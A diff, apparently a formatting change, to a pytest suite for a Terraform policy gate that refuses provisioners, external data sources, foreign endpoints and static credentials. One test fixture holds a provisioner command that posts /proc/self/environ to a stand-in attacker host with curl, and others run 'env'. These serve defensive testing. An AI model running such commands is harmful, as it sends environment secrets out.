@@ -14,8 +14,9 @@ import os
 import shutil
 import subprocess
 import sys
+from collections.abc import Callable
 from pathlib import Path
-from typing import Any, Callable
+from typing import Any
 
 import pytest
 
@@ -57,8 +58,13 @@ def write_stacks(directory: Path, documents: dict[str, Stack]) -> Path:
 
 def gate(*args: str) -> subprocess.CompletedProcess[str]:
     """The gate's command line as make and CI run it (CI: `python base/tools/policy_gate.py`, a bare file)."""
-    return subprocess.run([sys.executable, str(ROOT / "tools" / "policy_gate.py"), *args], capture_output=True,
-                          text=True, timeout=60, cwd=ROOT)
+    return subprocess.run(
+        [sys.executable, str(ROOT / "tools" / "policy_gate.py"), *args],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        cwd=ROOT,
+    )
 
 
 def one(document: Stack, resource_type: str) -> tuple[str, dict[str, Any]]:
@@ -74,7 +80,9 @@ def test_every_shipped_stack_passes(stacks: dict[str, Stack], policy: policy_gat
     every AWS provider) and contract 3 (B: no hashicorp/random): before those land it fails, naming them."""
     result = gate(str(write_stacks(tmp_path, stacks)))
     assert result.returncode == 0, result.stdout + result.stderr
-    assert result.stdout == f"policy gate: {len(stacks)} stack(s) checked ({', '.join(sorted(stacks))}), nothing refused\n"
+    assert (
+        result.stdout == f"policy gate: {len(stacks)} stack(s) checked ({', '.join(sorted(stacks))}), nothing refused\n"
+    )
 
 
 def test_the_contract_conforming_stacks_pass(stacks: dict[str, Stack], policy: policy_gate.Policy) -> None:
@@ -83,7 +91,9 @@ def test_the_contract_conforming_stacks_pass(stacks: dict[str, Stack], policy: p
         assert findings(name, contract_conforming(document), policy) == [], name
 
 
-def test_a_stack_shaped_like_todays_main_is_refused_for_the_two_contracts(prod: Stack, policy: policy_gate.Policy) -> None:
+def test_a_stack_shaped_like_todays_main_is_refused_for_the_two_contracts(
+    prod: Stack, policy: policy_gate.Policy
+) -> None:
     """What the gate says about a stack without contract 1 and 3 (main before workstreams E and B): exactly that."""
     del prod["provider"]["aws"][0]["allowed_account_ids"]
     prod["terraform"]["required_providers"]["random"] = {"source": "hashicorp/random", "version": "3.6.3"}
@@ -105,6 +115,7 @@ def add_provisioner(kind: str) -> Callable[[Stack], str]:
         key, body = one(document, "aws_sqs_queue")
         body["provisioner"] = [{kind: {"command": "curl -d @/proc/self/environ https://attacker.example"}}]
         return f"prod: aws_sqs_queue.{key}: provisioner {kind} is refused (runs a command where Terraform runs)"
+
     return mutate
 
 
@@ -125,8 +136,13 @@ def connection(document: Stack) -> str:
 
 
 def removed_with_destroy_provisioner(document: Stack) -> str:
-    document["removed"] = [{"from": "aws_sqs_queue.old", "lifecycle": {"destroy": False},
-                            "provisioner": [{"local-exec": {"command": "env", "when": "destroy"}}]}]
+    document["removed"] = [
+        {
+            "from": "aws_sqs_queue.old",
+            "lifecycle": {"destroy": False},
+            "provisioner": [{"local-exec": {"command": "env", "when": "destroy"}}],
+        }
+    ]
     return "prod: removed aws_sqs_queue.old: provisioner local-exec is refused (runs a command where Terraform runs)"
 
 
@@ -142,8 +158,10 @@ def data_remote_state(document: Stack) -> str:
 
 def data_secret_value(document: Stack) -> str:
     document["data"]["aws_secretsmanager_secret_version"] = {"db": {"secret_id": "japancart/prod/db-connection"}}
-    return ("prod: data.aws_secretsmanager_secret_version.db: data source type aws_secretsmanager_secret_version "
-            "is not on the allow-list")
+    return (
+        "prod: data.aws_secretsmanager_secret_version.db: data source type aws_secretsmanager_secret_version "
+        "is not on the allow-list"
+    )
 
 
 def required_provider(document: Stack) -> str:
@@ -174,8 +192,13 @@ def meta_argument_provider(document: Stack) -> str:
 
 def backend(kind: str) -> Callable[[Stack], str]:
     def mutate(document: Stack) -> str:
-        document["terraform"]["backend"] = {kind: {"path": "x.tfstate"} if kind == "local" else {"address": "https://x"}}
-        return f"prod: backend {kind}: refused: state is kept in S3 (only the bootstrap stack's phase 1 keeps it locally)"
+        document["terraform"]["backend"] = {
+            kind: {"path": "x.tfstate"} if kind == "local" else {"address": "https://x"}
+        }
+        return (
+            f"prod: backend {kind}: refused: state is kept in S3 (only the bootstrap stack's phase 1 keeps it locally)"
+        )
+
     return mutate
 
 
@@ -191,10 +214,12 @@ def no_backend(document: Stack) -> str:
 
 def setting(where: str, key: str, value: Any, reason: str) -> Callable[[Stack], str]:
     """One setting added to the AWS provider block or the S3 backend."""
+
     def mutate(document: Stack) -> str:
         body = document["provider"]["aws"][0] if where == "provider aws" else document["terraform"]["backend"]["s3"]
         body[key] = value
         return f"prod: {where}: {key} {reason}"
+
     return mutate
 
 
@@ -205,6 +230,7 @@ def provider_setting_removed(key: str, value: Any, reason: str) -> Callable[[Sta
         else:
             document["provider"]["aws"][0][key] = value
         return f"prod: provider aws: {reason}"
+
     return mutate
 
 
@@ -250,6 +276,7 @@ def top_level(block: str, body: Any) -> Callable[[Stack], str]:
     def mutate(document: Stack) -> str:
         document[block] = body
         return f"prod: {block}: block type {block} is not allowed"
+
     return mutate
 
 
@@ -275,41 +302,79 @@ MUTATIONS: dict[str, Callable[[Stack], str]] = {
     "a second terraform block": second_terraform_block,
     "provider meta-argument of an import block": import_with_provider,
     "no backend": no_backend,
-    "provider endpoints": setting("provider aws", "endpoints", [{"s3": "https://x"}], "is refused (sends API calls to another host)"),
-    "provider metadata endpoint": setting("provider aws", "ec2_metadata_service_endpoint", "http://x",
-                                                   "is refused (sends API calls to another host)"),
-    "backend endpoints": setting("backend s3", "endpoints", {"s3": "https://x"}, "is refused (sends API calls to another host)"),
-    "provider skip_credentials_validation": setting("provider aws", "skip_credentials_validation", True,
-                                                     "is refused (turns off a check of the credentials, region or account)"),
-    "backend skip_requesting_account_id": setting("backend s3", "skip_requesting_account_id", True,
-                                                   "is refused (turns off a check of the credentials, region or account)"),
-    "provider access_key": setting("provider aws", "access_key", "AKIAEXAMPLE", "is refused (static credentials in the configuration)"),
-    "backend secret_key": setting("backend s3", "secret_key", "x", "is refused (static credentials in the configuration)"),
+    "provider endpoints": setting(
+        "provider aws", "endpoints", [{"s3": "https://x"}], "is refused (sends API calls to another host)"
+    ),
+    "provider metadata endpoint": setting(
+        "provider aws", "ec2_metadata_service_endpoint", "http://x", "is refused (sends API calls to another host)"
+    ),
+    "backend endpoints": setting(
+        "backend s3", "endpoints", {"s3": "https://x"}, "is refused (sends API calls to another host)"
+    ),
+    "provider skip_credentials_validation": setting(
+        "provider aws",
+        "skip_credentials_validation",
+        True,
+        "is refused (turns off a check of the credentials, region or account)",
+    ),
+    "backend skip_requesting_account_id": setting(
+        "backend s3",
+        "skip_requesting_account_id",
+        True,
+        "is refused (turns off a check of the credentials, region or account)",
+    ),
+    "provider access_key": setting(
+        "provider aws", "access_key", "AKIAEXAMPLE", "is refused (static credentials in the configuration)"
+    ),
+    "backend secret_key": setting(
+        "backend s3", "secret_key", "x", "is refused (static credentials in the configuration)"
+    ),
     "provider token": setting("provider aws", "token", "x", "is refused (static credentials in the configuration)"),
-    "provider profile": setting("provider aws", "profile", "admin", "is refused (credentials from a local profile or file)"),
-    "provider shared_credentials_files": setting("provider aws", "shared_credentials_files", ["/tmp/c"],
-                                                 "is refused (credentials from a local profile or file)"),
-    "backend shared_config_files": setting("backend s3", "shared_config_files", ["/tmp/c"],
-                                           "is refused (credentials from a local profile or file)"),
-    "provider assume_role": setting("provider aws", "assume_role", [{"role_arn": ROLE}], f"is refused: role {ROLE} {NO_ROLE}"),
-    "provider assume_role_with_web_identity": setting("provider aws", "assume_role_with_web_identity",
-                                                      [{"role_arn": ROLE, "web_identity_token_file": "/tmp/t"}],
-                                                      f"is refused: role {ROLE} {NO_ROLE}"),
-    "backend assume_role": setting("backend s3", "assume_role", {"role_arn": ROLE}, f"is refused: role {ROLE} {NO_ROLE}"),
-    "provider custom_ca_bundle": setting("provider aws", "custom_ca_bundle", "/tmp/ca.pem", "is not an allowed setting"),
+    "provider profile": setting(
+        "provider aws", "profile", "admin", "is refused (credentials from a local profile or file)"
+    ),
+    "provider shared_credentials_files": setting(
+        "provider aws", "shared_credentials_files", ["/tmp/c"], "is refused (credentials from a local profile or file)"
+    ),
+    "backend shared_config_files": setting(
+        "backend s3", "shared_config_files", ["/tmp/c"], "is refused (credentials from a local profile or file)"
+    ),
+    "provider assume_role": setting(
+        "provider aws", "assume_role", [{"role_arn": ROLE}], f"is refused: role {ROLE} {NO_ROLE}"
+    ),
+    "provider assume_role_with_web_identity": setting(
+        "provider aws",
+        "assume_role_with_web_identity",
+        [{"role_arn": ROLE, "web_identity_token_file": "/tmp/t"}],
+        f"is refused: role {ROLE} {NO_ROLE}",
+    ),
+    "backend assume_role": setting(
+        "backend s3", "assume_role", {"role_arn": ROLE}, f"is refused: role {ROLE} {NO_ROLE}"
+    ),
+    "provider custom_ca_bundle": setting(
+        "provider aws", "custom_ca_bundle", "/tmp/ca.pem", "is not an allowed setting"
+    ),
     "provider insecure": setting("provider aws", "insecure", True, "is not an allowed setting"),
     "backend use_path_style": setting("backend s3", "use_path_style", True, "is not an allowed setting"),
     "missing allowed_account_ids": provider_setting_removed(
-        "allowed_account_ids", None, "no allowed_account_ids (every AWS provider pins the account it may change)"),
+        "allowed_account_ids", None, "no allowed_account_ids (every AWS provider pins the account it may change)"
+    ),
     "allowed_account_ids from an expression": provider_setting_removed(
-        "allowed_account_ids", ["${var.account}"], 'allowed_account_ids must name exactly one 12-digit account id, not ["${var.account}"]'),
+        "allowed_account_ids",
+        ["${var.account}"],
+        'allowed_account_ids must name exactly one 12-digit account id, not ["${var.account}"]',
+    ),
     "two allowed_account_ids": provider_setting_removed(
-        "allowed_account_ids", [TEST_ACCOUNT, "444455556666"],
-        f'allowed_account_ids must name exactly one 12-digit account id, not ["{TEST_ACCOUNT}", "444455556666"]'),
+        "allowed_account_ids",
+        [TEST_ACCOUNT, "444455556666"],
+        f'allowed_account_ids must name exactly one 12-digit account id, not ["{TEST_ACCOUNT}", "444455556666"]',
+    ),
     "empty allowed_account_ids": provider_setting_removed(
-        "allowed_account_ids", [], "allowed_account_ids must name exactly one 12-digit account id, not []"),
-    "backend allowed_account_ids malformed": setting("backend s3", "allowed_account_ids", ["1234"],
-                                                     'must name exactly one 12-digit account id, not ["1234"]'),
+        "allowed_account_ids", [], "allowed_account_ids must name exactly one 12-digit account id, not []"
+    ),
+    "backend allowed_account_ids malformed": setting(
+        "backend s3", "allowed_account_ids", ["1234"], 'must name exactly one 12-digit account id, not ["1234"]'
+    ),
     "module from git": module,
     "local module": local_module,
     "resource type outside the allow-list": resource_type,
@@ -321,24 +386,30 @@ MUTATIONS: dict[str, Callable[[Stack], str]] = {
 
 
 @pytest.mark.parametrize("mutation", MUTATIONS)
-def test_each_refusal_is_one_line_naming_the_stack_and_block(mutation: str, prod: Stack, policy: policy_gate.Policy) -> None:
+def test_each_refusal_is_one_line_naming_the_stack_and_block(
+    mutation: str, prod: Stack, policy: policy_gate.Policy
+) -> None:
     expected = MUTATIONS[mutation](prod)
     assert findings("prod", prod, policy) == [expected]
 
 
-def test_the_bootstraps_local_state_is_allowed_only_at_its_documented_path(bootstrap: Stack, policy: policy_gate.Policy) -> None:
+def test_the_bootstraps_local_state_is_allowed_only_at_its_documented_path(
+    bootstrap: Stack, policy: policy_gate.Policy
+) -> None:
     assert bootstrap["terraform"]["backend"] == {"local": {"path": DOCUMENTED_LOCAL_STATE}}  # phase 1, as shipped
     assert findings("bootstrap", bootstrap, policy) == []
     bootstrap["terraform"]["backend"]["local"]["path"] = "/tmp/elsewhere.tfstate"
     assert findings("bootstrap", bootstrap, policy) == [
         f"bootstrap: backend local: path '/tmp/elsewhere.tfstate' is not the documented '{DOCUMENTED_LOCAL_STATE}' "
-        "([backends] local of the allow-list)"]
+        "([backends] local of the allow-list)"
+    ]
 
 
 def test_the_local_exception_is_the_bootstraps_alone(bootstrap: Stack, policy: policy_gate.Policy) -> None:
     """The same local backend, in a stack with any other name, is refused."""
     assert findings("dev", bootstrap, policy) == [
-        "dev: backend local: refused: state is kept in S3 (only the bootstrap stack's phase 1 keeps it locally)"]
+        "dev: backend local: refused: state is kept in S3 (only the bootstrap stack's phase 1 keeps it locally)"
+    ]
 
 
 def test_an_assume_role_the_allow_list_names_passes(prod: Stack, tmp_path: Path) -> None:
@@ -351,13 +422,16 @@ def test_an_assume_role_the_allow_list_names_passes(prod: Stack, tmp_path: Path)
     prod["provider"]["aws"][0]["assume_role"] = [{"role_arn": ROLE.replace("admin", "other")}]
     assert findings("prod", prod, allowing) == [
         f"prod: provider aws: assume_role is refused: role {ROLE.replace('admin', 'other')} is not in [assume_role] "
-        f"role_arns of the allow-list ({ROLE})"]
+        f"role_arns of the allow-list ({ROLE})"
+    ]
 
 
 # ---------------------------------------------------------------------------------------------------------
 # What only the directory shows: extra configuration files, duplicate keys
 # ---------------------------------------------------------------------------------------------------------
-@pytest.mark.parametrize("name", ["override.tf.json", "evil.tf", "terraform.tfvars", "x.auto.tfvars.json", "terraform.d"])
+@pytest.mark.parametrize(
+    "name", ["override.tf.json", "evil.tf", "terraform.tfvars", "x.auto.tfvars.json", "terraform.d"]
+)
 def test_a_second_configuration_file_is_refused(name: str, prod: Stack, tmp_path: Path) -> None:
     write_stacks(tmp_path, {"prod": prod})
     target = tmp_path / "prod" / name
@@ -366,7 +440,10 @@ def test_a_second_configuration_file_is_refused(name: str, prod: Stack, tmp_path
     else:
         target.write_text('{"data": {"external": {"x": {"program": ["env"]}}}}', encoding="utf-8")
     result = gate(str(tmp_path))
-    assert (result.returncode, result.stdout) == (1, f"prod: file {name}: refused: Terraform loads it next to cdk.tf.json, unchecked\n")
+    assert (result.returncode, result.stdout) == (
+        1,
+        f"prod: file {name}: refused: Terraform loads it next to cdk.tf.json, unchecked\n",
+    )
 
 
 def test_a_duplicate_json_key_is_refused(prod: Stack, tmp_path: Path) -> None:
@@ -376,7 +453,10 @@ def test_a_duplicate_json_key_is_refused(prod: Stack, tmp_path: Path) -> None:
     text = stack_file.read_text(encoding="utf-8")
     stack_file.write_text('{"data": {"external": {"x": {"program": ["env"]}}},' + text.lstrip()[1:], encoding="utf-8")
     result = gate(str(tmp_path))
-    assert (result.returncode, result.stdout) == (1, "prod: JSON: key 'data' written twice in one object (Terraform reads both)\n")
+    assert (result.returncode, result.stdout) == (
+        1,
+        "prod: JSON: key 'data' written twice in one object (Terraform reads both)\n",
+    )
 
 
 def test_the_stack_assets_and_terraform_s_own_files_are_not_configuration(prod: Stack, tmp_path: Path) -> None:
@@ -397,16 +477,21 @@ def test_findings_exit_1_one_line_each_across_stacks(stacks: dict[str, Stack], t
     documents["dev"]["provider"]["aws"][0]["profile"] = "admin"
     result = gate(str(write_stacks(tmp_path, documents)))
     assert result.returncode == 1 and result.stderr == ""
-    assert result.stdout.splitlines() == ["dev: provider aws: profile is refused (credentials from a local profile or file)",
-                                          "prod: data.external.run: data source external is refused (runs a program at plan time)"]
+    assert result.stdout.splitlines() == [
+        "dev: provider aws: profile is refused (credentials from a local profile or file)",
+        "prod: data.external.run: data source external is refused (runs a program at plan time)",
+    ]
 
 
-@pytest.mark.parametrize("case, expected", [
-    ("missing", "{d}: no such directory (run `make synth` first)"),
-    ("empty", "{d}: no stack directories in it (run `make synth` first)"),
-    ("no stack file", "{d}/dev: no cdk.tf.json (not a synthesized stack)"),
-    ("not json", "{d}/dev/cdk.tf.json: not readable as JSON: Expecting value: line 1 column 1 (char 0)"),
-])
+@pytest.mark.parametrize(
+    "case, expected",
+    [
+        ("missing", "{d}: no such directory (run `make synth` first)"),
+        ("empty", "{d}: no stack directories in it (run `make synth` first)"),
+        ("no stack file", "{d}/dev: no cdk.tf.json (not a synthesized stack)"),
+        ("not json", "{d}/dev/cdk.tf.json: not readable as JSON: Expecting value: line 1 column 1 (char 0)"),
+    ],
+)
 def test_unusable_input_is_one_error_line(case: str, expected: str, tmp_path: Path) -> None:
     directory = tmp_path / "stacks"
     if case != "missing":
@@ -420,15 +505,24 @@ def test_unusable_input_is_one_error_line(case: str, expected: str, tmp_path: Pa
     assert result.stderr == f"policy gate: {expected.format(d=directory)}\n"
 
 
-@pytest.mark.parametrize("edit, expected", [
-    (lambda t: t + "\n[resource]\nx = \"y\"\n", "unknown table(s) resource"),
-    (lambda t: t.replace('aws_vpc = "one VPC per environment"', 'aws_vpc = ""'),
-     "[resources] aws_vpc must say why it is allowed (a non-empty string), not ''"),
-    (lambda t: t.replace("role_arns = []", 'role_arns = ["admin"]'),
-     "[assume_role] role_arns must be a list of role ARNs, not ['admin']"),
-    (lambda t: t.replace('"hashicorp/aws" = "every resource of every stack"', ""),
-     "[providers] is empty: nothing could be planned"),
-])
+@pytest.mark.parametrize(
+    "edit, expected",
+    [
+        (lambda t: t + '\n[resource]\nx = "y"\n', "unknown table(s) resource"),
+        (
+            lambda t: t.replace('aws_vpc = "one VPC per environment"', 'aws_vpc = ""'),
+            "[resources] aws_vpc must say why it is allowed (a non-empty string), not ''",
+        ),
+        (
+            lambda t: t.replace("role_arns = []", 'role_arns = ["admin"]'),
+            "[assume_role] role_arns must be a list of role ARNs, not ['admin']",
+        ),
+        (
+            lambda t: t.replace('"hashicorp/aws" = "every resource of every stack"', ""),
+            "[providers] is empty: nothing could be planned",
+        ),
+    ],
+)
 def test_a_malformed_allow_list_is_one_error_line(edit: Callable[[str], str], expected: str, tmp_path: Path) -> None:
     policy_file = tmp_path / "policy.toml"
     policy_file.write_text(edit(policy_gate.DEFAULT_POLICY.read_text(encoding="utf-8")), encoding="utf-8")
@@ -441,8 +535,14 @@ def test_make_policy_gate_runs_the_gate_on_the_synthesized_stacks() -> None:
     make = shutil.which("make")
     assert make, "GNU make is not on PATH"
     env = {k: v for k, v in os.environ.items() if k not in ("MAKEFLAGS", "MAKELEVEL")}
-    result = subprocess.run([make, "--no-print-directory", "-n", "policy-gate"], cwd=ROOT, capture_output=True, text=True,
-                            timeout=60, env=env)
+    result = subprocess.run(
+        [make, "--no-print-directory", "-n", "policy-gate"],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env=env,
+    )
     assert result.returncode == 0, result.stderr
     lines = result.stdout.splitlines()
     assert lines[-1] == ".venv/bin/python -m tools.policy_gate cdktf.out/stacks", lines
@@ -452,7 +552,9 @@ def test_make_policy_gate_runs_the_gate_on_the_synthesized_stacks() -> None:
 def test_cli_config_installs_exactly_the_allow_listed_providers(tmp_path: Path) -> None:
     result = gate("--cli-config", str(tmp_path / "terraform.rc"))
     assert result.returncode == 0, result.stderr
-    assert 'include = ["registry.terraform.io/hashicorp/aws"]' in (tmp_path / "terraform.rc").read_text(encoding="utf-8")
+    assert 'include = ["registry.terraform.io/hashicorp/aws"]' in (tmp_path / "terraform.rc").read_text(
+        encoding="utf-8"
+    )
 
 
 @pytest.mark.terraform
@@ -464,14 +566,31 @@ def test_terraform_refuses_to_install_a_provider_the_cli_config_leaves_out(tmp_p
     assert gate("--cli-config", str(tmp_path / "terraform.rc")).returncode == 0
     stack = tmp_path / "stack"
     stack.mkdir()
-    (stack / "cdk.tf.json").write_text(json.dumps({
-        "terraform": {"required_providers": {"null": {"source": "hashicorp/null"}}},
-        "resource": {"null_resource": {"x": {}}}}), encoding="utf-8")
-    env = {**{k: v for k, v in os.environ.items() if not k.startswith("TF_")}, "TF_CLI_CONFIG_FILE": str(tmp_path / "terraform.rc"),
-           "CHECKPOINT_DISABLE": "1", "TF_IN_AUTOMATION": "1"}
-    result = subprocess.run([terraform, f"-chdir={stack}", "init", "-input=false", "-no-color", "-backend=false"],
-                            capture_output=True, text=True, timeout=120, env=env)
+    (stack / "cdk.tf.json").write_text(
+        json.dumps(
+            {
+                "terraform": {"required_providers": {"null": {"source": "hashicorp/null"}}},
+                "resource": {"null_resource": {"x": {}}},
+            }
+        ),
+        encoding="utf-8",
+    )
+    env = {
+        **{k: v for k, v in os.environ.items() if not k.startswith("TF_")},
+        "TF_CLI_CONFIG_FILE": str(tmp_path / "terraform.rc"),
+        "CHECKPOINT_DISABLE": "1",
+        "TF_IN_AUTOMATION": "1",
+    }
+    result = subprocess.run(
+        [terraform, f"-chdir={stack}", "init", "-input=false", "-no-color", "-backend=false"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env=env,
+    )
     assert result.returncode != 0
     # Not a network error: no installation method of the configuration may serve it.
     message = " ".join(result.stderr.split())
-    assert "provider registry.terraform.io/hashicorp/null was not found in any of the search locations" in message, message
+    assert "provider registry.terraform.io/hashicorp/null was not found in any of the search locations" in message, (
+        message
+    )
